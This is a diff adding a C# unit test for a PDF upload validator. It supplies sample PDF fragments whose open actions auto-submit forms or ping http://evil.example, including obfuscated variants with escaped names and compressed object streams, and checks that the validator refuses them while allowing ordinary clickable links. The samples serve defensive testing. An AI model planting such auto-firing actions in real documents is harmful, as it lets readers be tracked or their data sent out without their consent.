@@ -74,6 +74,25 @@ public class PdfContentTests
     }
 
     [Fact]
+    public void Actions_that_run_by_themselves_and_reach_outside_are_refused_but_clicked_links_are_not()
+    {
+        foreach (var action in new[] { "<< /S /URI /URI (http://evil.example/track) >>", "<< /S /SubmitForm /F (http://evil.example/) >>",
+                     "<< /S /GoToR /F (\\\\host\\share\\x.pdf) /D [0 /Fit] >>", "<< /S /GoToE /T << /R /C /N (x) >> >>", "<< /S /ImportData /F (data.fdf) >>" })
+            Assert.Equal(PdfContent.ActionCode, Refused(Ascii($"%PDF-1.7\n1 0 obj << /Type /Catalog /OpenAction {action} >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF")));
+        // By reference, in a compressed object stream.
+        var e = Assert.Throws<DomainException>(() => PdfContent.Check("证据.pdf", WithObjectStream("<< /S /URI /URI (http://evil.example/) >>")));
+        Assert.Equal((PdfContent.ActionCode, true), (e.Code, e.Message.Contains("/URI")));
+        // A page's action on opening, second in a /Next chain, with its type's name escaped.
+        Assert.Equal(PdfContent.ActionCode, Refused(Ascii("%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [4 0 R] /Count 1 >> endobj\n"
+            + "4 0 obj << /Type /Page /Parent 2 0 R /AA << /O 6 0 R >> >> endobj\n6 0 obj << /S /GoTo /D [4 0 R /Fit] /Next [7 0 R] >> endobj\n"
+            + "7 0 obj << /S /Subm#69tForm /F (http://evil.example/) >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF")));
+        // Opening at a page and a link to a web page the reader may click: an ordinary PDF.
+        PdfContent.Check("通知.pdf", Ascii("%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction [4 0 R /Fit] >> endobj\n2 0 obj << /Type /Pages /Kids [4 0 R] /Count 1 >> endobj\n"
+            + "4 0 obj << /Type /Page /Parent 2 0 R /Annots [5 0 R] /AA << /O << /S /GoTo /D [4 0 R /Fit] >> >> >> endobj\n"
+            + "5 0 obj << /Type /Annot /Subtype /Link /A << /S /URI /URI (https://www.miit.gov.cn/) >> >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF"));
+    }
+
+    [Fact]
     public void Javascript_hidden_in_a_compressed_object_stream_is_found()
     {
         var pdf = WithObjectStream("<< /S /JavaScript /JS (app.alert\\(1\\)) >>");
